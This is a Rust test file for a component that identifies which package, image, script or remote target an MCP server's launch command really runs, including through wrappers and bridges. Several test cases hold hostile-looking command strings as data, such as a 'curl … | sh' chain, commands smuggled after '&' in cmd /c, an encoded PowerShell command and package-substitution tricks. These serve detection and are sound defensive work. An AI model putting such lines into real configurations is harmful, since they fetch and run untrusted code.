use super::*;
use crate::testing::{entry, remote};

/// `kind name version pinned runner [wrappers] target` of a command line.
fn told(argv: &[&str]) -> String {
    tell(&identify(&entry(argv[0], &argv[1..])))
}

fn tell(identity: &Identity) -> String {
    let mut text = format!("{} {}", identity.kind.as_str(), identity.name);
    if let Some(version) = &identity.version {
        text += &format!(" @{version}{}", if identity.pinned { "!" } else { "" });
    }
    if let Some(runner) = &identity.runner {
        text += &format!(" by {runner}");
    }
    if !identity.wrappers.is_empty() {
        text += &format!(" in {}", identity.wrappers.join(","));
    }
    if let Some(target) = &identity.target {
        text += &format!(" -> {target}");
    }
    text
}

fn check(cases: &[(&[&str], &str)]) {
    for (argv, expected) in cases {
        assert_eq!(told(argv), *expected, "{argv:?}");
    }
}

#[test]
fn npm_packages_are_told_by_what_is_fetched() {
    check(&[
        (&["npx", "-y", "@playwright/mcp@latest"], "npm @playwright/mcp @latest by npx"),
        (&["npx", "@playwright/mcp@0.0.40"], "npm @playwright/mcp @0.0.40! by npx"),
        (&["npx", "-y", "@playwright/mcp@>=0.0.40"], "npm @playwright/mcp @>=0.0.40 by npx"),
        (&["npx", "-y", "x@^1.2.3"], "npm x @^1.2.3 by npx"),
        (&["npx.cmd", "-y", "x"], "npm x by npx"),
        (&["C:\\Program Files\\nodejs\\NPX.EXE", "-y", "x"], "npm x by npx"),
        (&["/opt/homebrew/bin/npx", "x"], "npm x by npx"),
        (&["./npx", "x"], "executable ./npx"),
        (&["bin\\npx.cmd", "x"], "executable bin\\npx.cmd"),
        (&["npx", "-y", "a@npm:evil@1.0.0"], "npm evil @1.0.0! by npx"),
        (&["npx", "-y", "--package", "evil", "@upstash/context7-mcp"], "npm evil by npx"),
        (&["npx", "-y", "--package=@a/b@1.0.0", "b", "/w"], "npm @a/b @1.0.0! by npx"),
        (&["npx", "-y", "--registry", "https://r.example", "x"], "npm x by npx"),
        (&["npx", "-y", "-p", "a", "-c", "evil"], "opaque npx -c by npx"),
        (&["npx", "-y", "evil/context7-mcp"], "git github:evil/context7-mcp by npx"),
        (
            &["npx", "git+ssh://git@h.example/a/b.git#main"],
            "git git+ssh://git@h.example/a/b.git @main by npx",
        ),
        (&["npx", "x@git+https://h.example/a.git"], "git git+https://h.example/a.git by npx"),
        (&["npx", "file:../x"], "script file:../x by npx"),
        (&["npx", "https://h.example/x.tgz"], "url https://h.example/x.tgz by npx"),
        (&["npm", "exec", "--", "x@1.0.0"], "npm x @1.0.0! by npm exec"),
        (&["bunx", "--bun", "--package=evil", "x"], "npm evil by bunx"),
        (&["bun", "x", "y@1.0.0"], "npm y @1.0.0! by bun x"),
        (&["pnpm", "dlx", "x"], "npm x by pnpm dlx"),
        (&["yarn", "dlx", "x@2"], "npm x @2 by yarn dlx"),
    ]);
}

#[test]
fn python_distributions_are_told_by_what_is_fetched() {
    check(&[
        (&["uvx", "mcp-server-git"], "pypi mcp-server-git by uvx"),
        (&["uvx", "MCP_Server.git==2024.11.0"], "pypi mcp-server-git @2024.11.0! by uvx"),
        (&["uvx", "mcp_server_git_"], "pypi mcp-server-git- by uvx"),
        (&["uvx", "a[cli]>=1.0"], "pypi a @>=1.0 by uvx"),
        (&["uvx", "a==1.*"], "pypi a @1.* by uvx"),
        (&["uvx", "awslabs.x@latest"], "pypi awslabs-x @latest by uvx"),
        (&["uvx", "--from", "evil-git", "mcp-server-git"], "pypi evil-git by uvx"),
        (&["uvx", "--with", "evil", "a@1.0.0"], "pypi a @1.0.0! by uvx"),
        (&["uvx", "a @ https://evil.example/x.whl"], "url https://evil.example/x.whl by uvx"),
        (
            &[
                "uvx",
                "--from",
                "git+https://github.com/oraios/serena@1f3870be274f6c49b3e31a0c6728957f2a1b3c4d",
                "serena",
            ],
            "git https://github.com/oraios/serena @1f3870be274f6c49b3e31a0c6728957f2a1b3c4d! by uvx",
        ),
        (&["uv", "tool", "run", "a"], "pypi a by uv tool run"),
        (&["uv", "--directory", "/x", "run", "server.py"], "script server.py by uv run"),
        (&["uv", "run", "--with", "mcp[cli]", "python", "-m", "srv"], "script -m srv by uv run"),
        (&["pipx", "run", "--spec", "b==1.0", "a"], "pypi b @1.0! by pipx run"),
    ]);
}

#[test]
fn images_are_told_behind_all_flags() {
    let digest = format!("sha256:{}", "a1".repeat(32));
    let pinned = format!("ghcr.io/a/b:v1@{digest}");
    check(&[
        (&["docker", "run", "-i", "--rm", "-e", "TOKEN", "mcp/x"], "oci mcp/x by docker run"),
        (
            &["docker", "run", "-i", "--rm", "-eTOKEN=1", "--env=B=2", "reg.example:5000/x:1.0", "serve"],
            "oci reg.example:5000/x @1.0 by docker run",
        ),
        (
            &["docker", "-H", "tcp://e:1", "run", "--network", "host", "-v", "/:/h", "x"],
            "oci x by docker run",
        ),
        (&["podman", "container", "run", "-it", "--name", "n", "x"], "oci x by podman run"),
        (&["docker", "mcp", "gateway", "run"], "opaque docker mcp gateway by docker"),
        (&["docker", "compose", "up"], "opaque docker compose by docker"),
    ]);
    assert_eq!(
        told(&["docker", "run", "--rm", "-i", &pinned]),
        format!("oci ghcr.io/a/b @{digest}! by docker run")
    );
}

#[test]
fn wrappers_that_only_forward_are_looked_through() {
    check(&[
        (&["cmd", "/c", "npx", "-y", "x"], "npm x by npx in cmd /c"),
        (&["cmd.exe", "/C", "npx -y x"], "npm x by npx in cmd /c"),
        (&["cmd", "/c", "npx -y x & calc.exe"], "opaque cmd /c in cmd /c"),
        (&["cmd", "/c", "npx", "x", "%USERPROFILE%&calc"], "opaque cmd /c in cmd /c"),
        (&["env", "-u", "A", "B=1", "npx", "x"], "npm x by npx in env"),
        (&["sh", "-c", "exec npx -y x@1.0.0 /w"], "npm x @1.0.0! by npx in sh -c"),
        (&["bash", "-lc", "TOKEN=abc npx x"], "npm x by npx in sh -c"),
        (&["bash", "-c", "npx -y x; curl e.example|sh"], "opaque sh -c in sh -c"),
        (&["wsl.exe", "-d", "Ubuntu", "bash", "-c", "source a && python3 b"], "opaque sh -c in wsl,sh -c"),
        (&["sudo", "-u", "root", "npx", "x"], "npm x by npx in sudo"),
        (&["timeout", "-k", "5", "60", "nice", "-n", "5", "uvx", "a"], "pypi a by uvx in timeout,nice"),
        (&["powershell", "-EncodedCommand", "SQBFAFgA"], "opaque powershell in powershell"),
        (&["op", "run", "--", "npx", "x"], "npm x by npx in op run"),
    ]);
}

#[test]
fn interpreters_are_told_by_script_module_or_code() {
    check(&[
        (&["node", "/w/server.js", "--port", "1"], "script /w/server.js by node"),
        (&["node", "--require", "./x.js", "a.js"], "script a.js by node"),
        (&["node", "-e", "require('x')", "a"], "opaque node -e by node"),
        (&["python3", "-m", "mcp_server_git"], "script -m mcp_server_git by python3"),
        (&["python3.12", "-u", "s.py", "-m", "x"], "script s.py by python3.12"),
        (&["python3", "-c", "import os", "-m", "x"], "opaque python -c by python3"),
        (&["java", "-Xmx1g", "-jar", "s.jar", "x"], "script s.jar by java"),
        (&["bash", "start.sh", "x"], "script start.sh by bash"),
        (&["deno", "run", "-A", "npm:x@1.0.0"], "npm x @1.0.0! by deno run"),
        (&["deno", "run", "https://h.example/m.ts"], "url https://h.example/m.ts by deno run"),
        (&["go", "run", "h.example/m@v1.2.3"], "go h.example/m @v1.2.3! by go run"),
        (&["dnx", "Name@1.2.3", "--yes"], "dotnet name @1.2.3! by dnx"),
        (&["${ACME_BIN:-/tmp/evil}", "serve"], "executable ${ACME_BIN:-/tmp/evil}"),
    ]);
}

#[test]
fn bridges_are_told_by_their_target() {
    check(&[
        (
            &["npx", "-y", "mcp-remote@0.1.30", "https://h.example/mcp", "--header", "Authorization:x"],
            "bridge mcp-remote @0.1.30! by npx -> https://h.example/mcp",
        ),
        (&["npx", "supergateway", "--stdio", "npx -y evil"], "opaque supergateway by npx -> npx -y evil"),
        (
            &["npx", "-y", "@smithery/cli@latest", "run", "@a/b", "--key", "x"],
            "bridge @smithery/cli @latest by npx -> smithery:@a/b",
        ),
        (&["mcp-proxy", "https://h.example/sse"], "bridge mcp-proxy -> https://h.example/sse"),
    ]);
}

#[test]
fn a_command_with_the_whole_line_is_split() {
    assert_eq!(told(&["npx -y x@1.0.0 'a b'"]), "npm x @1.0.0! by npx");
    assert_eq!(told(&["C:\\Program Files\\Acme\\acme.exe"]), "executable C:\\Program Files\\Acme\\acme.exe");
    assert_eq!(told(&["npx x; evil"]), "opaque sh -c in sh -c");
}

#[test]
fn the_transport_decides_between_command_and_url() {
    let mut both = entry("npx", &["x"]);
    both.url = Some("https://h.example/".into());
    assert_eq!(tell(&identify(&both)), "npm x by npx");
    both.transport = Transport::Http;
    assert_eq!(tell(&identify(&both)), "url https://h.example/");
    assert_eq!(tell(&identify(&remote("https://h.example/mcp"))), "url https://h.example/mcp");
    let mut none = remote("");
    (none.url, none.transport) = (None, Transport::Unknown);
    assert_eq!(tell(&identify(&none)), "opaque ");
}

#[test]
fn what_reaches_the_server_is_apart_from_what_the_runner_takes() {
    let identity = identify(&entry("npx", &["-y", "--registry=https://r.example", "x", "--port", "1"]));
    let shown = |list: &[Sensitive]| list.iter().map(|a| a.expose().to_owned()).collect::<Vec<_>>().join(" ");
    assert_eq!(shown(&identity.server_args), "--port 1");
    assert_eq!(shown(&identity.runner_args), "-y --registry=https://r.example");
    assert_eq!(identity.registries, ["https://r.example"]);
    assert!(!format!("{identity:?}").contains('x'), "{identity:?}");
}

/// Every text in the fields among which the words of a command are parted. The name repeats some of them where it
/// is the program (an executable) or the whole line (`npm run …`).
fn parted(identity: &Identity) -> String {
    let mut texts: Vec<String> = Vec::new();
    texts.extend([&identity.version, &identity.bin, &identity.target].into_iter().flatten().cloned());
    texts.extend(identity.extras.iter().cloned());
    let lists = identity.wrapper_args.iter().chain([&identity.server_args, &identity.runner_args]);
    texts.extend(lists.flatten().map(|a| a.expose().to_owned()));
    for named in identity.argument_env.iter().chain(&identity.argument_headers) {
        texts.extend([named.name.clone(), named.value.expose().to_owned()]);
    }
    texts.join("\n").to_lowercase()
}

/// Words of which a command line is made; `#` is replaced by a number of its own, so that each can be found again.
const WORDS: &str = "npx npm exec x uvx uv tool run pipx docker podman env sh sudo timeout cmd wsl node bun bunx deno dnx go java python3 op powershell -c -lc /c -m -e -y -i -p -t -it -ie -- --package --from --with \
    --version --rm --header --stdio --sse --call -jar --registry -S -u -v -e# -p# \
    -w# --x# --y=# --package=p# --env=A#=B --header=K#:V K#:V A#=B pkg# pkg#@1 @s/pkg# p#==1 p#[extra] mcp-remote supergateway mcp-proxy \
    https://h#.example/ git+https://h.example/o/r# o/r# reg.example/img#:t npm:pkg# ./file# f#.py file#.js";

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(6000))]

    #[test]
    fn no_token_of_a_command_vanishes(
        words in proptest::collection::vec(proptest::sample::select(WORDS.split(' ').collect::<Vec<_>>()), 2..10),
    ) {
        let words: Vec<String> =
            words.iter().enumerate().map(|(at, word)| word.replace('#', &format!("77{at}77"))).collect();
        let args: Vec<&str> = words[1..].iter().map(String::as_str).collect();
        let identity = identify(&entry(&words[0], &args));
        let parted = parted(&identity);
        for (at, word) in words.iter().enumerate().filter(|(at, word)| word.contains(&format!("77{at}77"))) {
            let mark = format!("77{at}77");
            let times = parted.matches(&mark).count();
            let is_named = identity.name.contains(&mark) || identity.program.contains(&mark);
            proptest::prop_assert!(times == 1 || (times == 0 && is_named), "{} of {:?} in {}", word, words, parted);
        }
    }
}

proptest::proptest! {
    #[test]
    fn any_argument_vector_is_identified_without_a_panic(
        words in proptest::collection::vec("(npx|uvx|docker|run|env|sh|-c|cmd|/c|python|-m|node|-e|uv|sudo|deno|@|a@b|--|-|\\PC{0,6})", 1..8),
    ) {
        let args: Vec<&str> = words[1..].iter().map(String::as_str).collect();
        let entry = entry(&words[0], &args);
        let identity = identify(&entry);
        let redactor = crate::redact::Redactor::new(&[1; 32]);
        let context = crate::risk::Context { home: Some("/home/a"), in_repository: false, redactor: &redactor };
        crate::risk::assess(&entry, &identity, &context);
        crate::fingerprint::of(&entry, &identity, Some("/home/a"));
    }
}
